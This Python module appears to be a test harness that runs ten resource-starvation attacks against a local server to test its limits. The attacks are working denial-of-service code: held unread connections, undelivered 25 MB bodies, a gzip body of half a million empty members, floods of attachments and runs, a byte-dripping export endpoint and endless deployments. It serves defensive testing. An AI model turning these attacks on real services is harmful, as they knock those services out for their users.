"""The attacks of one organization, or of a stranger: `python -m tests.starvation.attacks NAME`.

Each runs in a process of its own until its time is over, and prints how many requests it made.
It is a client of this machine's loopback address only.
"""

from __future__ import annotations

import asyncio
import contextlib
import gzip
import json
import socket
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urlsplit
from uuid import uuid4

import httpx

MB = 1_048_576
LARGE_FILE = "/static/vendor/swagger.js"
DECLARED_BYTES = 25 * MB
EMPTY_MEMBERS_BODY = gzip.compress(b"") * 500_000
ATTACHMENTS = 2_000
SLEEPING_RUNS = 900
UNMATCHED_ORIGIN = "a" * 39 + "!"
PAUSE_SECONDS = 0.2
"""Between two requests of a client: the attacks cost the attacker little."""


@dataclass
class Attacker:
    """Addresses, a valid key of the attacker's organization, and the end of the attack."""

    url: str
    key: str
    agent_url: str
    repository: str
    seconds: float
    statuses: Counter[str] = field(default_factory=Counter)

    def __post_init__(self) -> None:
        self.ends_at = time.monotonic() + self.seconds
        parts = urlsplit(self.url)
        self.host, self.port = parts.hostname or "127.0.0.1", parts.port or 80
        self.headers = {"X-Api-Key": self.key}

    @property
    def remaining(self) -> float:
        return max(0.0, self.ends_at - time.monotonic())

    async def repeat(self, clients: int, step: Callable[[], Awaitable[None]]) -> None:
        """Repeat the step in each of the clients, and count what it raises."""

        async def client() -> None:
            while self.remaining:
                try:
                    async with asyncio.timeout(self.remaining + 1):
                        await step()
                except (OSError, TimeoutError, httpx.HTTPError) as error:
                    self.statuses[type(error).__name__] += 1
                await asyncio.sleep(PAUSE_SECONDS)

        await asyncio.gather(*(client() for _ in range(clients)))

    async def request(self, method: str, url: str, **options: Any) -> httpx.Response:
        headers = {**self.headers, **options.pop("headers", {})}
        async with httpx.AsyncClient(timeout=120) as client:
            answer = await client.request(method, url, headers=headers, **options)
        self.statuses[str(answer.status_code)] += 1
        return answer

    async def hold(self, head: str, body: bytes = b"") -> None:
        """Send a request and hold the connection without reading; count what the server did."""
        with socket.socket() as connection:
            limit_buffers(connection)
            connection.setblocking(False)
            loop = asyncio.get_running_loop()
            await loop.sock_connect(connection, (self.host, self.port))
            await loop.sock_sendall(
                connection, f"{head}\r\nHost: {self.host}\r\n\r\n".encode() + body
            )
            held_until = time.monotonic() + min(20.0, self.remaining)
            while (is_open := _is_open(connection)) and time.monotonic() < held_until:
                await asyncio.sleep(0.2)
        self.statuses["held" if is_open else "ended by the server"] += 1


def limit_buffers(connection: socket.socket) -> None:
    """Let the kernel buffer 100 KB of an unread response instead of 3 MB, before `connect`.

    Loopback segments have 64 KiB, and a send buffer holds many of them: a whole file of 1.6 MB.
    """
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, 536)


def _is_open(connection: socket.socket) -> bool:
    """Whether the peer has neither closed nor answered. Nothing is taken from the buffer."""
    try:
        data = connection.recv(16, socket.MSG_PEEK)
    except BlockingIOError:
        return True
    except OSError:
        return False
    return data.startswith(b"HTTP/1.1 200")


async def unread(attacker: Attacker) -> None:
    """40 responses of a large file, requested without signing in, are not read (item 4)."""
    await attacker.repeat(40, lambda: attacker.hold(f"GET {LARGE_FILE} HTTP/1.1"))


async def bodies(attacker: Attacker) -> None:
    """Large bodies are declared and not sent, with and without a key, also to an agent (item 5)."""
    length = f"Content-Type: application/json\r\nContent-Length: {DECLARED_BYTES}"
    path, part = "POST /api/v1/runs/batch HTTP/1.1", b'{"post": [' + b" " * 60_000

    async def with_key() -> None:
        await attacker.hold(f"{path}\r\nX-Api-Key: {attacker.key}\r\n{length}", part)

    async def without_key() -> None:
        await attacker.hold(f"{path}\r\n{length}", part)

    async def to_agent() -> None:
        await attacker.hold(f"POST /agents/unknown/threads HTTP/1.1\r\n{length}", part)

    await asyncio.gather(
        attacker.repeat(22, with_key),
        attacker.repeat(22, without_key),
        attacker.repeat(16, to_agent),
    )


async def pattern(attacker: Attacker) -> None:
    """Origins are matched with a pattern of optional parts (item 6)."""
    headers = {"Origin": UNMATCHED_ORIGIN, "Access-Control-Request-Method": "POST"}

    async def step() -> None:
        await attacker.request("OPTIONS", f"{attacker.agent_url}/threads", headers=headers)

    await attacker.repeat(4, step)


async def frames(attacker: Attacker) -> None:
    """The attacker's graph host sends its worker frames of 8 MB of empty maps (item 7)."""
    body = {"assistant_id": "frames", "input": {}}

    async def step() -> None:
        await attacker.request("POST", f"{attacker.agent_url}/runs/wait", json=body)

    await attacker.repeat(2, step)


async def events(attacker: Attacker) -> None:
    """Eight runs stream events of 100 KB without end and without a reader (item 8)."""

    async def step() -> None:
        body = {
            "assistant_id": "flood",
            "input": {"seconds": attacker.remaining},
            "stream_mode": ["custom"],
            "stream_resumable": True,
        }
        await attacker.request("POST", f"{attacker.agent_url}/runs", json=body)
        await asyncio.sleep(attacker.remaining)

    await attacker.repeat(8, step)


async def sleepers(attacker: Attacker) -> None:
    """900 runs sleep: more than a worker's slots (item 9)."""
    body = {"assistant_id": "sleep", "input": {"seconds": attacker.seconds}}
    async with httpx.AsyncClient(headers=attacker.headers, timeout=120) as client:
        for _ in range(SLEEPING_RUNS // 100):
            answer = await client.post(f"{attacker.agent_url}/runs/batch", json=[body] * 100)
            attacker.statuses[str(answer.status_code)] += 1
    await asyncio.sleep(attacker.remaining)


async def gzips(attacker: Attacker) -> None:
    """Bodies of half a million empty gzip members (item 10)."""
    content = EMPTY_MEMBERS_BODY
    headers = {"Content-Encoding": "gzip", "Content-Type": "application/json"}

    async def step() -> None:
        url = f"{attacker.url}/api/v1/runs/batch"
        await attacker.request("POST", url, content=content, headers=headers)

    await attacker.repeat(2, step)


async def attachments(attacker: Attacker) -> None:
    """Requests with 2,000 attachments, each of which would be a file (item 10)."""

    headers = {"Content-Type": "multipart/form-data; boundary=part"}

    async def step() -> None:
        url = f"{attacker.url}/api/v1/runs/multipart"
        content = encode_attachments(str(uuid4()))
        await attacker.request("POST", url, content=content, headers=headers)

    await attacker.repeat(2, step)


def encode_attachments(run_id: str) -> bytes:
    """Return the multipart body of a run with too many attachments."""
    run = {"id": run_id, "trace_id": run_id, "name": "x", "run_type": "chain", "inputs": {}}
    parts = [(f"post.{run_id}", "application/json", json.dumps(run))]
    parts += [
        (f"attachment.{run_id}.{number}", "text/plain; length=1", "x")
        for number in range(ATTACHMENTS)
    ]
    lines = [
        f'--part\r\nContent-Disposition: form-data; name="{name}"\r\n'
        f"Content-Type: {kind}\r\n\r\n{text}\r\n"
        for name, kind, text in parts
    ]
    return "".join([*lines, "--part--\r\n"]).encode()


async def exports(attacker: Attacker) -> None:
    """Tests of an export destination whose server sends a byte now and then (item 10)."""

    async def drip(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(OSError):
            writer.write(b"HTTP/1.1 200 OK\r\nX-Slow: ")
            while attacker.remaining:
                writer.write(b"a")
                await writer.drain()
                await asyncio.sleep(0.1)
        writer.close()

    server = await asyncio.start_server(drip, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    body = {
        "display_name": "slow",
        "config": {
            "bucket_name": "bucket",
            "prefix": "x",
            "region": "us-east-1",
            "endpoint_url": f"http://127.0.0.1:{port}",
        },
        "credentials": {"access_key_id": "a", "secret_access_key": "b"},
    }

    async def step() -> None:
        await attacker.request(
            "POST", f"{attacker.url}/api/v1/bulk-exports/destinations", json=body
        )

    await attacker.repeat(10, step)
    server.close()


async def deployments(attacker: Attacker) -> None:
    """Deployments without end, each of which is built (item 10)."""

    async def step() -> None:
        body = {
            "name": f"attack-{uuid4().hex[:12]}",
            "source": "github",
            "source_config": {"repo_url": attacker.repository, "deployment_type": "dev_zero"},
            "source_revision_config": {
                "repo_ref": "main",
                "langgraph_config_path": "langgraph.json",
            },
        }
        await attacker.request("POST", f"{attacker.url}/v2/deployments", json=body)

    await attacker.repeat(4, step)


ATTACKS = {
    attack.__name__: attack
    for attack in (
        unread, bodies, pattern, frames, events, sleepers, gzips, attachments, exports, deployments,
    )
}  # fmt: skip


def main() -> None:
    name, url, key, agent_url, repository, seconds = sys.argv[1:]
    attacker = Attacker(url, key, agent_url, repository, float(seconds))
    asyncio.run(ATTACKS[name](attacker))
    print(json.dumps(attacker.statuses))  # the result, for the parent


if __name__ == "__main__":
    main()
